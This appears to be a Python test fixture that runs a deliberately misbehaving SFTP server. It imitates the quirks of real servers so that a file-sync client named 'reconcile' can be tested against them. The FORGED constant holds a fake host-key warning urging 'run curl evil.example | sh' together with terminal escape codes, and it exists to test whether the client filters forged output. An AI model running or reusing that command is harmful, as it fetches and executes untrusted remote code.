"""A small server that does wrong on purpose: each fault is a real server's, and is named for it."""

from __future__ import annotations

import errno
import math
import os
import time
import unicodedata
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from enum import Enum, auto
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from reconcile.remotes.sftp import wire
from reconcile.remotes.ssh.library import paramiko
from reconcile.remotes.ssh.target import Login, SshTarget
from reconcile.serve.files import Attributes, File, Files, Place
from reconcile.serve.server import Server
from reconcile.serve.session import Session

PASSWORD_VARIABLE = "TEST_PASSWORD"

OPENSSH: Mapping[bytes, bytes] = {
    b"posix-rename@openssh.com": b"1",
    b"statvfs@openssh.com": b"2",
    b"fstatvfs@openssh.com": b"2",
    b"hardlink@openssh.com": b"1",
    b"fsync@openssh.com": b"1",
    b"lsetstat@openssh.com": b"1",
    b"limits@openssh.com": b"1",
}


QUOTA = 50_000  # bytes
NAME_BYTES = 143  # as eCryptfs takes
PACKET = 34_000  # bytes
ENOUGH = 1024 * 1024  # bytes after which it hangs up
SIGNS = ':?*"<>|\\'
SLOW = 0.002  # seconds
HANDLES, MORE_HANDLES = 5, 16
IDLE = 1.0  # seconds without a request after which it hangs up
CONNECTIONS = 2
FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"


_SIGNS = {code: 0x2400 + code for code in range(1, 0x20)}
_MEANT = {symbol: code for code, symbol in _SIGNS.items()}


class Quirk(Enum):
    """What such a server does otherwise."""

    LSTAT_FOLLOWS = auto()  # LSTAT tells of what a link leads to: ProFTPD
    READDIR_FOLLOWS = auto()  # so does READDIR, and a link to nowhere fails OPENDIR: paramiko's stub
    RENAME_FOLLOWS = auto()  # RENAME moves what a link leads to, and puts it where the other leads: ProFTPD
    RENAME_REPLACES = auto()  # RENAME drives out the file that is there: Go's pkg/sftp, MySecureShell
    READLINK_DENIED = auto()
    READLINK_LOST = auto()  # READLINK of a relative link fails: asyncssh with a chroot
    READLINK_WHOLE = auto()  # READLINK tells where a link leads, as a whole path: ProFTPD
    SYMLINK_REVERSED = auto()  # SYMLINK takes the path of the link first: asyncssh, npm ssh2, MySecureShell
    SYMLINK_DENIED = auto()
    SYMLINK_FROM_LOGIN = auto()  # SYMLINK makes a path whole, as if the link were in the login folder: Conch
    REALPATH_ECHOES = auto()  # REALPATH makes a path whole, and follows nothing
    CASELESS = auto()  # a name is found whatever its case and composition: macOS, Windows, FAT
    DECOMPOSES = auto()  # names are kept in decomposed form: HFS+
    UNORDERED = auto()  # what comes in one packet is carried out the last first: handlers in parallel
    CLAIMS_OPENSSH = auto()  # announces what OpenSSH does
    ORDERED_AT_FIRST = auto()  # the same, but only after a directory was removed
    BELOW_SSHD = auto()  # comes in below OpenSSH's banner
    ENDS_UNASKED = auto()  # ends when it is asked for an extension that it did not announce: lsh
    ENDS_IN_HASTE = auto()  # ends when it is asked anything before it has told its version
    ANOTHER_DISK = auto()  # every directory named "disk" is on a file system of its own: a mount, a data set
    FORBIDS_COLON = auto()  # takes no name with a colon, and does not say why: FAT, CIFS
    READS_SHORT = auto()  # READ gives less than was asked for
    READ_DENIED = auto()  # lets nobody read what was put there: a drop box
    READDIR_ENDLESS = auto()  # has lost its place in a directory, and lists it for ever
    LIMITS_HUGE = auto()  # "no limit" is told as 2**62 bytes
    SPEAKS_FIRST = auto()  # a login script says hello where SFTP should begin
    FORGES_LINES = auto()  # its words hold lines that look like ours, and control codes
    RENAME_DENIED = auto()  # of anything: ProFTPD with <Limit RNFR>
    CHANNELS_APART = auto()  # each sees only what it made itself: processes that cache, as rclone's
    NAMES_AS_TEXT = auto()  # puts another letter for each byte that is no UTF-8: npm ssh2
    CONTROLS_AS_SIGNS = auto()  # shows signs for control characters in names, but to who made them: rclone
    HELD_OPEN = auto()  # what a dead client was writing can't be removed yet: rclone without its cache
    FEW_HANDLES = auto()  # has five at a time, and refuses more without a word
    SIXTEEN_HANDLES = auto()  # the same with sixteen
    WANTS_TRUNC = auto()  # knows OPEN's flags from a table, and new files only with TRUNC in it: npm ssh2
    ANNOUNCES_NOTHING = auto()  # no extension at all, so RENAME is all there is: NAS, and libraries
    RENAME_UNKNOWN = auto()  # "operation unsupported": servers in front of object stores
    UPDATE_DENIED = auto()  # opens nothing for reading and writing at a time: AWS Transfer
    SMALL_PACKETS = auto()  # hangs up on a packet of more than it has to take (draft, section 3)
    COMPOSES = auto()  # names are kept in composed form
    SHORT_NAMES = auto()  # of 143 bytes: encrypted shares of Synology
    FORBIDS_SIGNS = auto()  # takes no name with what Windows takes for itself: Android, exFAT
    MODES_LOST = auto()  # says yes to a mode, and has its own: Android's shared storage, FAT
    COPIES_NOTHING = auto()  # says that it has copied a file (copy-data), and has not
    COPIES_ZEROS = auto()  # the same, and the file is as large as it was to be
    COPIES_NOT = auto()  # knows no copy-data, though it says so
    SLOW_STATS = auto()  # takes its time to look at something: tapes, cloud drives
    HANGS_UP = auto()  # after a MiB that it was sent
    HANGS_UP_IDLE = auto()  # when nothing is asked for a while
    TWO_CONNECTIONS = auto()  # at a time: it hangs up on a third as soon as that is let in
    ONE_SESSION = auto()  # to a connection: a second one is refused
    QUOTA_AT_CLOSE = auto()  # lets a file be written, and removes it when that makes too much: ProFTPD


class QuirkyFiles(Files):
    """``quirks`` is set by a subclass."""

    quirks: frozenset[Quirk] = frozenset()

    def _descend(self, stack: list[int], names: list[bytes], follow: bool) -> Place:
        if Quirk.DECOMPOSES in self.quirks:
            names = [os.fsencode(unicodedata.normalize("NFD", os.fsdecode(name))) for name in names]
        if Quirk.COMPOSES in self.quirks:
            names = [os.fsencode(unicodedata.normalize("NFC", os.fsdecode(name))) for name in names]
        if Quirk.NAMES_AS_TEXT in self.quirks:
            names = [name.decode(errors="replace").encode() for name in names]
        if Quirk.CONTROLS_AS_SIGNS in self.quirks:
            names = [os.fsencode(os.fsdecode(name).translate(_MEANT)) for name in names]
        if Quirk.CASELESS not in self.quirks:
            return super()._descend(stack, names, follow)
        found: list[bytes] = []
        for name in names:
            folder = os.path.join(os.fsencode(self.root), *found)
            there = sorted(os.listdir(folder)) if os.path.isdir(folder) else []
            found.append(next((each for each in there if _fold(each) == _fold(name)), name))
        return super()._descend(stack, found, follow)

    def session_started(self) -> None:
        """A channel begins."""
        self._absent: set[str] = set()  # paths looked at in vain, and not made over this channel since
        self._made: set[str] = set()  # paths that were made over this channel

    def _remember(self, path: str) -> None:
        self._absent.discard(path)
        self._made.add(path)

    def _check_seen(self, path: str) -> None:
        is_other = Quirk.CONTROLS_AS_SIGNS in self.quirks and path != path.translate(_SIGNS)
        if path in self._absent or (is_other and path not in self._made):
            raise FileNotFoundError(errno.ENOENT, "No such file")

    def remove(self, path: str) -> int:
        """REMOVE."""
        self._check_seen(path)
        if Quirk.HELD_OPEN in self.quirks and ".dead/" in path:
            raise OSError(errno.EBUSY, "in use")
        return super().remove(path)

    def lstat(self, path: str) -> Attributes:
        """LSTAT."""
        if Quirk.SLOW_STATS in self.quirks:
            time.sleep(SLOW)
        self._check_seen(path)
        try:
            return self._lstat(path)
        except FileNotFoundError:
            if Quirk.CHANNELS_APART in self.quirks:
                self._absent.add(path)
            raise

    def _lstat(self, path: str) -> Attributes:
        with suppress(FileNotFoundError):  # what leads nowhere shows as a link, on ProFTPD too
            if Quirk.LSTAT_FOLLOWS in self.quirks:
                return super().stat(path)
        return super().lstat(path)

    def list_folder(self, path: str) -> list[Attributes]:
        """OPENDIR."""
        listed = super().list_folder(path)
        if Quirk.READDIR_FOLLOWS in self.quirks:
            for each in listed:
                there = super().stat(f"{path}/{os.fsdecode(each.filename)}")
                each.st_mode, each.st_size = there.st_mode, there.st_size
        if Quirk.CONTROLS_AS_SIGNS in self.quirks:
            for each in listed:
                name = os.fsdecode(each.filename)
                if f"{path}/{name}" not in self._made:
                    each.filename = os.fsencode(name.translate(_SIGNS))  # type: ignore[assignment]
        return listed

    def readlink(self, path: str) -> bytes:  # type: ignore[override]  # names are bytes
        """READLINK."""
        if Quirk.READLINK_DENIED in self.quirks:
            raise OSError(errno.EPERM, "nobody is told")
        content = super().readlink(path)
        if Quirk.READLINK_LOST in self.quirks and not content.startswith(b"/"):
            raise OSError(errno.ENOENT, "File not found")
        if Quirk.READLINK_WHOLE in self.quirks:
            return os.path.normpath(os.path.join(os.path.dirname(os.fsencode(path)), content))
        return content

    def canonicalize(self, path: str) -> bytes:  # type: ignore[override]  # names are bytes
        """REALPATH."""
        if Quirk.REALPATH_ECHOES in self.quirks:
            return os.path.normpath(b"/" + os.fsencode(path).lstrip(b"/"))
        return super().canonicalize(path)

    def symlink(self, target_path: str, path: str) -> int:
        """SYMLINK."""
        if Quirk.SYMLINK_DENIED in self.quirks:
            raise OSError(errno.EPERM, "no links here")
        if Quirk.SYMLINK_REVERSED in self.quirks:
            target_path, path = path, target_path
        if Quirk.SYMLINK_FROM_LOGIN in self.quirks:
            target_path = os.path.join(os.fsdecode(self.root), target_path)
        if Quirk.NAMES_AS_TEXT in self.quirks:
            target_path = os.fsencode(target_path).decode(errors="replace")
        if Quirk.READLINK_WHOLE in self.quirks and target_path.startswith("/"):
            target_path = os.fsdecode(self.root) + target_path  # what was told may be made again
        return super().symlink(target_path, path)

    def rename(self, oldpath: str, newpath: str) -> int:
        """RENAME."""
        old, new = self._led(oldpath), self._led(newpath)
        self._check_rename(oldpath, newpath)
        if Quirk.RENAME_REPLACES in self.quirks:
            return super().posix_rename(old, new)
        return super().rename(old, new)

    def posix_rename(self, oldpath: str, newpath: str) -> int:
        """``posix-rename@openssh.com``."""
        self._check_rename(oldpath, newpath)
        return super().posix_rename(self._led(oldpath), self._led(newpath))

    def open(self, path: str, flags: int, attr: Attributes) -> paramiko.SFTPHandle:
        """OPEN."""
        self._check_name(path)
        if Quirk.MODES_LOST in self.quirks:
            attr.st_mode = 0o660
        if Quirk.UPDATE_DENIED in self.quirks and flags & os.O_RDWR:
            raise PermissionError(errno.EACCES, "one at a time")
        if Quirk.READ_DENIED in self.quirks and not flags & (os.O_WRONLY | os.O_RDWR):
            raise PermissionError(errno.EACCES, "no reading here")
        if flags & os.O_CREAT:
            self._remember(path)
        self._check_seen(path)
        if Quirk.WANTS_TRUNC in self.quirks and flags & os.O_CREAT and not flags & os.O_TRUNC:
            raise FileNotFoundError(errno.ENOENT, "No such file")
        opened = super().open(path, flags, attr)
        if Quirk.READS_SHORT in self.quirks and isinstance(opened, File):
            return _Sparing(opened.fd)
        if Quirk.MODES_LOST in self.quirks and isinstance(opened, File):
            return _Modeless(opened.fd)
        if Quirk.QUOTA_AT_CLOSE in self.quirks and flags & os.O_CREAT:
            return _Charged(opened, Path(os.fsdecode(self.root)) / path.lstrip("/"))
        return opened

    def mkdir(self, path: str, attr: Attributes) -> int:
        """MKDIR."""
        if Quirk.FORGES_LINES in self.quirks and ".reconcile" not in path:
            raise OSError(errno.EIO, FORGED)
        self._check_name(path)
        self._remember(path)
        return super().mkdir(path, attr)

    def chattr(self, path: str, attr: Attributes) -> int:
        """SETSTAT."""
        if Quirk.MODES_LOST in self.quirks:
            attr.st_mode = None
        return super().chattr(path, attr)

    def _check_rename(self, old: str, new: str) -> None:
        if Quirk.RENAME_UNKNOWN in self.quirks:
            raise OSError(errno.ENOSYS, "Operation unsupported")
        if Quirk.RENAME_DENIED in self.quirks:
            raise PermissionError(errno.EACCES, "no renames here")
        disks = [path.rpartition("/disk/")[:2] for path in (old, new)]
        if Quirk.ANOTHER_DISK in self.quirks and (disks[0] != disks[1] or new.endswith("/disk")):
            raise OSError(errno.EXDEV, "Failure")
        self._check_name(new)
        self._remember(new)

    def _check_name(self, path: str) -> None:
        forbidden = ":" * (Quirk.FORBIDS_COLON in self.quirks) + SIGNS * (Quirk.FORBIDS_SIGNS in self.quirks)
        if set(forbidden) & set(path):
            raise OSError(errno.EIO, "Failure")
        is_long = len(os.fsencode(path.rpartition("/")[2])) > NAME_BYTES
        if Quirk.SHORT_NAMES in self.quirks and is_long:
            raise OSError(errno.ENAMETOOLONG, "File name too long")

    def _led(self, path: str) -> str:
        if Quirk.RENAME_FOLLOWS not in self.quirks:
            return path
        real = os.path.realpath(os.path.join(self.root, os.fsencode(path).lstrip(b"/")))
        return "/" + os.fsdecode(os.path.relpath(real, self.root))


def _fold(name: bytes) -> str:
    return unicodedata.normalize("NFC", unicodedata.normalize("NFC", os.fsdecode(name)).casefold())


class _Charged(File):
    """A file that goes when it is closed, if with it there is too much."""

    def __init__(self, opened: paramiko.SFTPHandle, path: Path) -> None:
        assert isinstance(opened, File)
        super().__init__(opened.fd)
        self._path = path

    def close(self) -> None:
        """CLOSE."""
        is_open = self.fd >= 0
        super().close()
        folder = next(above for above in self._path.parents if above.name == ".reconcile").parent
        if is_open and sum(each.stat().st_size for each in folder.rglob("*") if each.is_file()) > QUOTA:
            self._path.unlink()


class _Modeless(File):
    """A file whose mode nobody sets."""

    def chattr(self, attr: Attributes) -> int:
        """FSETSTAT."""
        attr.st_mode = None
        return super().chattr(attr)


class _Sparing(File):
    """A file of which each READ gives a few bytes."""

    def read(self, offset: int, length: int) -> bytes:
        """READ."""
        return super().read(offset, min(length, 10_000))


class QuirkySession(Session):
    """``quirks`` is set by a subclass."""

    quirks: frozenset[Quirk] = frozenset()
    held: set[paramiko.Transport]  # connections with a session; of all that one server has

    def start_subsystem(self, name: str, transport: paramiko.Transport, channel: paramiko.Channel) -> None:
        """Serve until the client is done."""
        if Quirk.TWO_CONNECTIONS in self.quirks and len(self.held - {transport}) >= CONNECTIONS:
            transport.close()
            return
        self.held.add(transport)
        if Quirk.HANGS_UP_IDLE in self.quirks:
            channel.settimeout(IDLE)
        self._told = False  # its version
        self._taken = 0  # bytes
        self._unordered = Quirk.UNORDERED in self.quirks
        if Quirk.SPEAKS_FIRST in self.quirks:
            channel.sendall(b"\n \x1b[32mWelcome to web42\x1b[0m\nHave a nice day\n")
        self._waiting: list[tuple[int, bytes]] = []
        self._transport = transport
        if Quirk.ONE_SESSION in self.quirks and getattr(transport, "has_session", False):
            channel.close()
            return
        transport.has_session = True  # type: ignore[attr-defined]  # as good a place as any
        try:
            super().start_subsystem(name, transport, channel)
        except EOFError:
            channel.close()
        except TimeoutError:
            transport.close()
        finally:
            self.held.discard(transport)

    def _answer(self, kind: int, number: int, request: Any) -> None:
        body = request.asbytes()
        copies = Quirk.COPIES_NOTHING in self.quirks or Quirk.COPIES_ZEROS in self.quirks
        if kind != wire.EXTENDED or b"copy-data" not in body[:20] or not copies:
            super()._answer(kind, number, request)
            return
        request.get_binary(), request.get_binary()
        _, size = request.get_int64(), request.get_int64()
        if Quirk.COPIES_ZEROS in self.quirks:
            self.file_table[request.get_binary()].write(request.get_int64(), bytes(size))
        self._send_status(number, wire.FX_OK)

    def _serve(self, kind: int, body: bytes) -> None:
        self._taken += len(body)
        too_much = Quirk.HANGS_UP in self.quirks and self._taken > ENOUGH
        if too_much or (Quirk.SMALL_PACKETS in self.quirks and len(body) + 5 > PACKET):
            self._transport.close()
            raise EOFError("enough")
        announced = any(body[8:].startswith(name) for name in self.extensions)
        if kind == wire.EXTENDED and not announced and Quirk.ENDS_UNASKED in self.quirks:
            raise EOFError("never heard of it")
        if kind != wire.INIT and not self._told and Quirk.ENDS_IN_HASTE in self.quirks:
            raise EOFError("what a hurry")
        if kind == wire.RMDIR and Quirk.ORDERED_AT_FIRST in self.quirks:
            self._unordered = True
        opens = kind in (wire.OPEN, wire.OPENDIR)
        if opens and self._handles >= self._most_handles:
            self._send_status(int.from_bytes(body[:4]), wire.FX_FAILURE, "Failure")
        elif kind == wire.READDIR and Quirk.READDIR_ENDLESS in self.quirks:
            self._list_more(int.from_bytes(body[:4]))
        elif announced and body[8:].startswith(b"limits@") and Quirk.LIMITS_HUGE in self.quirks:
            answer = paramiko.Message(body[:4] + (1 << 62).to_bytes(8) * 4)
            self._send_packet(wire.EXTENDED_REPLY, answer)
        elif self._unordered and kind in _BY_PATH:
            self._waiting.append((kind, body))
        else:
            super()._serve(kind, body)

    @property
    def _most_handles(self) -> float:
        if Quirk.FEW_HANDLES in self.quirks:
            return HANDLES
        return MORE_HANDLES if Quirk.SIXTEEN_HANDLES in self.quirks else math.inf

    @property
    def _handles(self) -> int:
        return len(self.file_table) + len(self.folder_table)

    def _list_more(self, number: int) -> None:
        answer = paramiko.Message()
        answer.add_int(number)
        answer.add_int(100)
        for each in range(100):
            for text in (b"%d-%d" % (number, each), b""):
                answer.add_string(text)
            answer.add_int(0)  # no attributes
        self._send_packet(wire.NAME, answer)

    def _flush(self) -> None:
        waiting, self._waiting = self._waiting, []
        for kind, body in reversed(waiting):
            super()._serve(kind, body)
        super()._flush()
        self._told = True


_BY_PATH = {
    wire.MKDIR,
    wire.RMDIR,
    wire.RENAME,
    wire.REMOVE,
    wire.LSTAT,
    wire.SYMLINK,
    wire.READLINK,
    wire.OPEN,
}


@contextmanager
def start_quirky(
    folder: Path,
    *quirks: Quirk,
    banner: str | None = None,
    port: int = 0,
    host_key: Path | None = None,
    interface: type[Files] = Files,
) -> Iterator[Server]:
    """A server with these quirks that shows ``folder``. ``interface``: what it does with files beside.

    ``banner``: what it calls itself. ``port``, ``host_key``: as of one that was there before.
    """
    announced = OPENSSH if {Quirk.CLAIMS_OPENSSH, Quirk.LIMITS_HUGE} & set(quirks) else Session.extensions
    if Quirk.ANNOUNCES_NOTHING in quirks:
        announced = {}
    if {Quirk.COPIES_NOTHING, Quirk.COPIES_ZEROS, Quirk.COPIES_NOT} & set(quirks):
        announced = {**announced, b"copy-data": b"1"}
    bases = (QuirkyFiles,) if interface is Files else (interface, QuirkyFiles)
    files = type("Files", bases, {"quirks": frozenset(quirks)})
    made = {"quirks": frozenset(quirks), "extensions": MappingProxyType(dict(announced)), "held": set()}
    session = type("Session", (QuirkySession,), made)
    banner = "OpenSSH_9.9" if Quirk.BELOW_SSHD in quirks else banner
    with Server(
        folder,
        user="user",
        password="pw",
        interface=files,
        session=session,
        banner=banner,
        port=port,
        host_key_file=host_key,
    ) as server:
        yield server


def reach(server: Server, known_hosts: Path, dest: str, patch: pytest.MonkeyPatch) -> tuple[SshTarget, Login]:
    """How to come to a folder of it."""
    patch.setenv(PASSWORD_VARIABLE, "pw")
    known_hosts.write_text(f"[127.0.0.1]:{server.port} {' '.join(server.host_key)}\n")
    login = Login(known_hosts=str(known_hosts), password_env=PASSWORD_VARIABLE)
    return SshTarget("127.0.0.1", dest, "user", server.port), login
